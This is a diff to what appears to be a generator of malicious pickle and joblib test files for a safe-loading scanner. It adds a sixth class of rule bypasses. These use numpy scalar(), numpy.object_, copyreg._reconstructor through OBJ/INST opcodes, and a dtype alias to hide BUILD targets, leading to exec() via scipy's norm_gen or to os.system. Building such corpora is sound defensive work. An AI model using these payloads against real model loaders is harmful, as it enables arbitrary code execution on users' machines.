@@ -632,6 +632,77 @@ def class5():
            opts='--trust=numpy.random')
 
 
+def class6():
+    """Beyond the issue's classes: ways to hide from the rules which object
+    a BUILD or a joblib read applies to (found in review, not by the issue)."""
+    k, n = 8, 64
+    obj_dt = dtype('O8', (3, '|', None, None, None, -1, -1, 63))   # as numpy writes dtype('O')
+    norm = glob('scipy.stats._continuous_distns', 'norm_gen') + EMPTY_TUPLE + NEWOBJ
+    template = val({'_parse_arg_template': CODE})
+
+    # numpy.core.multiarray.scalar(dtype('O'), x) returns x itself (numpy
+    # multiarraymodule.c array_scalar, "In a best effort this returns the
+    # original object"), and so does calling or NEWOBJ of numpy.object_: a
+    # BUILD on the result is a BUILD on x, which the rules then do not see.
+    def scalar_of(x):
+        return call(glob('numpy.core.multiarray', 'scalar'), Raw(obj_dt), Raw(x))
+
+    attack('c6_scalar_object_scipy_exec', 6, PJ, 'marker',
+           proto(2) + scalar_of(norm) + template + BUILD + STOP,
+           "scalar(dtype('O'), norm_gen.__new__()) is the generator itself: BUILD {'_parse_arg_template': code} exec()s")
+    attack('c6_object_call_scipy_exec', 6, PJ, 'marker',
+           proto(2) + call(glob('numpy', 'object_'), Raw(norm)) + template + BUILD + STOP,
+           "numpy.object_(x) returns x: the same BUILD on a scipy generator")
+    attack('c6_object_newobj_scipy_exec', 6, PJ, 'marker',
+           proto(2) + glob('numpy', 'object_') + val((Raw(norm),)) + NEWOBJ + template + BUILD + STOP,
+           "numpy.object_.__new__(numpy.object_, x) returns x (NEWOBJ)")
+    # a class through scalar(): BUILD on it sets class attributes
+    patch = scalar_of(glob(*WRAPPER)) + val((None, {'numpy_array_alignment_bytes': 16})) + BUILD + POP
+    p = 200
+    attack('c6_scalar_class_attr', 6, 'joblib', 'marker',
+           proto(3) + patch + wrapper_newobj() + wrapper_state((k,), f8()) + BUILD +
+           desync(n, 1 + p + n, os_system(), first=p) + STOP,
+           "BUILD on scalar(dtype('O'), NumpyArrayWrapper), the class: its alignment attribute makes joblib read padding")
+    # a wrapper through scalar(): joblib's isinstance() sees a wrapper
+    attack('c6_scalar_wrapper', 6, 'joblib', 'marker',
+           proto(3) + scalar_of(wrapper_newobj()) + wrapper_state((k,), f8()) + BUILD +
+           desync(0, n, os_system()) + STOP,
+           "scalar(dtype('O'), NumpyArrayWrapper.__new__()) + BUILD: joblib reads array data, treepack opcodes")
+
+    # OBJ and INST call a function as REDUCE does (pickle.py _instantiate):
+    # copyreg._reconstructor(cls, object, None) through them makes a cls,
+    # which the rules for what cls's state may be did not follow.
+    attack('c6_inst_reconstructor_scipy_exec', 6, PJ, 'marker',
+           MARK + glob('scipy.stats._continuous_distns', 'norm_gen') + glob('builtins', 'object') + NONE +
+           inst('copyreg', '_reconstructor') + EMPTY_DICT + MARK + binunicode('_parse_arg_template') +
+           binunicode(CODE) + SETITEMS + BUILD + STOP,
+           "INST copyreg _reconstructor (norm_gen, object, None), then BUILD {'_parse_arg_template': code}")
+    attack('c6_obj_reconstructor_scipy_exec', 6, PJ, 'marker',
+           MARK + glob('copyreg', '_reconstructor') + glob('scipy.stats._continuous_distns', 'norm_gen') +
+           glob('builtins', 'object') + NONE + OBJ + EMPTY_DICT + MARK + binunicode('_parse_arg_template') +
+           binunicode(CODE) + SETITEMS + BUILD + STOP,
+           "OBJ copyreg._reconstructor(norm_gen, object, None), then the same BUILD")
+    objw = MARK + glob('copyreg', '_reconstructor') + glob(*WRAPPER) + glob('builtins', 'object') + NONE + OBJ
+    attack('c6_obj_reconstructor_wrapper', 6, 'joblib', 'marker',
+           proto(2) + objw + wrapper_state((k,), f8()) + BUILD + desync(0, n, os_system()) + STOP,
+           "OBJ copyreg._reconstructor(NumpyArrayWrapper, object, None): a wrapper to joblib, none to treepack")
+    instw = MARK + glob(*WRAPPER) + glob('builtins', 'object') + NONE + inst('copyreg', '_reconstructor')
+    attack('c6_inst_reconstructor_wrapper', 6, 'joblib', 'marker',
+           proto(2) + instw + wrapper_state((k,), f8()) + BUILD + desync(0, n, os_system()) + STOP,
+           "INST copyreg _reconstructor (NumpyArrayWrapper, object, None)")
+
+    # numpy.dtype(dt, False, False) by NEWOBJ returns dt itself: a second
+    # BUILD then gives a checked V16 dtype an item size of 24, after its
+    # check and before joblib sizes the array with it.
+    v16 = dtype('V16', (3, '|', None, None, None, 16, 1, 0)) + binput(1)
+    alias = glob('numpy', 'dtype') + binget(1) + NEWFALSE + NEWFALSE + TUPLE3 + NEWOBJ + \
+        val((3, '|', None, None, None, 24, 1, 0)) + BUILD + POP
+    attack('c6_dtype_newobj_alias_elsize', 6, 'joblib', 'marker',
+           proto(3) + v16 + POP + alias + wrapper_newobj() + wrapper_state((k,), Raw(binget(1))) + BUILD +
+           desync(16 * k, 24 * k, os_system()) + STOP,
+           "NEWOBJ numpy.dtype(dt, False, False) is dt: its BUILD makes the checked V16 dtype 24 bytes wide")
+
+
 def main():
     if len(sys.argv) != 2:
         sys.exit('usage: make_attacks.py OUTDIR')
@@ -642,6 +713,7 @@ def main():
     class3()
     class4()
     class5()
+    class6()
     names = set()
     with open(os.path.join(out, 'attacks.tsv'), 'w') as m:
         m.write('name\tclass\tloaders\tpayload\tfile\ttreepack_options\tdescription\n')
